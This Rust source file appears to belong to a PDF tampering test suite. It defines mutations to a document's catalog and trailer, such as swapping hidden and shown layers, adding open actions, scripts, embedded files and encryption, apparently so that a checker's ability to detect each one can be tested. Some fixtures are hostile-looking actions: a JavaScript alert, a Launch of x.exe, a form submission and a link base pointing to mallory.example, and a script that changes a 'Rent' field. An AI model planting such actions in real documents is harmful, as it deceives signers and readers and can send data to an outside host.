//! Catalog and trailer: layers, names, actions, and what viewers do when they open a document.

use chancery_pdf::{Name, Object, PdfString};

use super::content::{find, some};
use super::{Change, seen, told};
use crate::draft::{Draft, dictionary, is_name, parsed, stream};

pub(super) const ALL: &[Change] = &[
    seen("layers-swapped", |draft, _| {
        let (shown, hidden) = layers(draft)?;
        edit_layers(draft, &format!("<</Order[{shown} {hidden}]/ON[{hidden}]/OFF[{shown}]>>"))
    }),
    seen("layer-shown", |draft, _| {
        let (shown, hidden) = layers(draft)?;
        edit_layers(draft, &format!("<</Order[{shown} {hidden}]/OFF[]>>"))
    }),
    seen("layers-base-state", |draft, _| {
        let (shown, hidden) = layers(draft)?;
        edit_layers(draft, &format!("<</Order[{shown} {hidden}]/BaseState/OFF/ON[]/OFF[]>>"))
    }),
    seen("layer-by-usage", |draft, _| {
        let (shown, hidden) = layers(draft)?;
        draft.edit(hidden, |layer| {
            layer.set("Usage", dictionary("<</View<</ViewState/ON>>/Print<</PrintState/ON>>>>"));
        })?;
        edit_layers(
            draft,
            &format!(
                "<</Order[{shown} {hidden}]/OFF[{hidden}]/AS[<</Event/View/Category[/View]/OCGs[{hidden}]>><</Event/Print/Category[/Print]/OCGs[{hidden}]>>]>>"
            ),
        )
    }),
    told("layer-usage-alone", |draft, _| {
        let (_, hidden) = layers(draft)?;
        draft.edit(hidden, |layer| layer.set("Usage", dictionary("<</Print<</PrintState/ON>>>>")))
    }),
    told("layer-renamed", |draft, _| {
        let (shown, _) = layers(draft)?;
        draft.edit(shown, |layer| layer.set("Name", PdfString::text("Void")))
    }),
    seen("layer-turned-into-membership", |draft, _| {
        let (shown, hidden) = layers(draft)?;
        draft.put(hidden, dictionary(&format!("<</Type/OCMD/OCGs[{shown}]/P/AnyOn>>")));
        Some(())
    }),
    seen("layers-removed", |draft, _| {
        draft.catalog()?.get("OCProperties")?;
        draft.edit_catalog(|catalog| drop(catalog.remove("OCProperties")))
    }),
    seen("layers-added", |draft, random| {
        let form = some(draft, random, |entries| {
            is_name(entries, "Subtype", "Form") || is_name(entries, "Subtype", "Image")
        })?;
        let layer = draft.add(dictionary("<</Type/OCG/Name(New)>>"));
        draft.edit(form, |form| form.set("OC", layer))?;
        draft.edit_catalog(|catalog| {
            catalog.set("OCProperties", dictionary(&format!("<</OCGs[{layer}]/D<</OFF[{layer}]>>>>")));
        })
    }),
    told("action-on-opening", |draft, random| {
        let action = *random.of(&[
            "<</S/JavaScript/JS(app.alert\\(1\\))>>",
            "<</S/Launch/F(x.exe)>>",
            "<</S/Hide/T(Rent)>>",
            "<</S/SetOCGState/State[/ON]>>",
            "<</S/SubmitForm/F(https://mallory.example)>>",
            "<</S/GoToR/F(other.pdf)/D[0/Fit]>>",
        ]);
        draft.edit_catalog(|catalog| catalog.set("OpenAction", dictionary(action)))
    }),
    told("actions-of-the-document", |draft, _| {
        draft.edit_catalog(|catalog| catalog.set("AA", dictionary("<</WS<</S/JavaScript/JS(x)>>>>")))
    }),
    told("names-scripts", |draft, _| {
        let script = draft.add(dictionary("<</S/JavaScript/JS(this.getField\\('Rent'\\).value = '9000')>>"));
        let names = format!("<</JavaScript<</Names[(x) {script}]>>>>");
        draft.edit_catalog(|catalog| catalog.set("Names", dictionary(&names)))
    }),
    told("names-files", |draft, _| {
        let file = draft.add(stream("<</Type/EmbeddedFile>>", "9000"));
        let names =
            format!("<</EmbeddedFiles<</Names[(a.txt)<</Type/Filespec/F(a.txt)/EF<</F {file}>>>>]>>>>");
        draft.edit_catalog(|catalog| catalog.set("Names", dictionary(&names)))
    }),
    told("names-destinations", |draft, _| {
        let page = *draft.pages().last()?;
        let names = format!("<</Dests<</Names[(terms)[{page}/Fit]]>>>>");
        draft.edit_catalog(|catalog| catalog.set("Names", dictionary(&names)))
    }),
    told("destinations", |draft, _| {
        let page = *draft.pages().last()?;
        draft.edit_catalog(|catalog| catalog.set("Dests", dictionary(&format!("<</terms[{page}/Fit]>>"))))
    }),
    told("outlines", |draft, _| {
        let page = *draft.pages().last()?;
        let first = draft.add(dictionary(&format!("<</Title(Rent: 9000)/Dest[{page}/Fit]>>")));
        let outlines =
            draft.add(dictionary(&format!("<</Type/Outlines/First {first}/Last {first}/Count 1>>")));
        draft.edit_catalog(|catalog| catalog.set("Outlines", outlines))
    }),
    told("page-labels", |draft, _| {
        draft.edit_catalog(|catalog| catalog.set("PageLabels", dictionary("<</Nums[0<</S/R/St 9>>]>>")))
    }),
    told("page-mode", |draft, random| {
        let mode = *random.of(&["FullScreen", "UseAttachments", "UseOC"]);
        draft.edit_catalog(|catalog| catalog.set("PageMode", Name::from(mode)))
    }),
    told("viewer-preferences", |draft, _| {
        draft.edit_catalog(|catalog| {
            catalog.set(
                "ViewerPreferences",
                dictionary("<</HideToolbar true/ViewArea/BleedBox/PrintPageRange[1 1]>>"),
            );
        })
    }),
    told("output-intents", |draft, _| {
        let intent = "[<</Type/OutputIntent/S/GTS_PDFA1/OutputConditionIdentifier(x)>>]";
        draft.edit_catalog(|catalog| catalog.set("OutputIntents", parsed(intent)))
    }),
    told("collection", |draft, _| {
        draft.edit_catalog(|catalog| catalog.set("Collection", dictionary("<</Type/Collection/View/T>>")))
    }),
    told("requirements", |draft, _| {
        draft.edit_catalog(|catalog| catalog.set("Requirements", parsed("[<</S/EnableJavaScripts>>]")))
    }),
    told("base-of-links", |draft, _| {
        draft.edit_catalog(|catalog| catalog.set("URI", dictionary("<</Base(https://mallory.example/)>>")))
    }),
    told("structure", |draft, _| {
        let tree = draft.add(dictionary("<</Type/StructTreeRoot/K[]>>"));
        draft.edit_catalog(|catalog| {
            catalog.set("StructTreeRoot", tree);
            catalog.set("MarkInfo", dictionary("<</Marked true>>"));
        })
    }),
    told("language", |draft, _| draft.edit_catalog(|catalog| catalog.set("Lang", PdfString::text("xx")))),
    told("permissions", |draft, _| draft.edit_catalog(|catalog| catalog.set("Perms", dictionary("<<>>")))),
    told("unknown-key", |draft, _| {
        let page = *draft.pages().first()?;
        draft.edit_catalog(|catalog| catalog.set("XMLY_Key", page))
    }),
    told("threads", |draft, _| draft.edit_catalog(|catalog| catalog.set("Threads", parsed("[]")))),
    seen("catalog-replaced", |draft, random| {
        let content = super::content::drawn(random);
        let content = draft.add(content);
        let tree = chancery_pdf::Reference::new(draft.reserve(1), 0);
        let page = draft.add(dictionary(&format!(
            "<</Type/Page/Parent {tree}/MediaBox[0 0 595 842]/Contents {content}>>"
        )));
        draft.put(tree, dictionary(&format!("<</Type/Pages/Kids[{page}]/Count 1>>")));
        let mut catalog = draft.catalog()?;
        catalog.set("Pages", tree);
        let catalog = draft.add(catalog);
        draft.trailer.push(("Root", catalog.into()));
        Some(())
    }),
    seen("catalog-moved", |draft, _| {
        let catalog = draft.catalog()?;
        let catalog = draft.add(catalog);
        draft.trailer.push(("Root", catalog.into()));
        Some(())
    }),
    told("trailer-identifier", |draft, _| {
        draft.document.latest().trailer().get("ID")?;
        draft.trailer.push(("ID", parsed("[<00><00>]")));
        Some(())
    }),
    seen("trailer-encrypted", |draft, _| {
        draft.trailer.push(("Encrypt", dictionary("<</Filter/Standard/V 1/R 2/O(x)/U(x)/P -4>>").into()));
        Some(())
    }),
    seen("trailer-short", |draft, random| {
        draft.trailer.push(("Size", Object::Integer(i64::try_from(random.below(20)).ok()?)));
        Some(())
    }),
    told("trailer-unknown-key", |draft, _| {
        let page = *draft.pages().first()?;
        draft.trailer.push(("Other", page.into()));
        Some(())
    }),
];

fn layers(draft: &Draft<'_>) -> Option<(chancery_pdf::Reference, chancery_pdf::Reference)> {
    let named = |name: &str| {
        find(draft, |_, entries| {
            is_name(entries, "Type", "OCG")
                && entries
                    .get("Name")
                    .and_then(Object::as_string)
                    .is_some_and(|title| title.to_text() == name)
        })
    };
    Some((named("Rent")?, named("Draft")?))
}

fn edit_layers(draft: &mut Draft<'_>, standard: &str) -> Option<()> {
    let root = draft.root()?;
    let standard = dictionary(standard);
    draft.edit_within(root, "OCProperties", |layers| layers.set("D", standard))
}
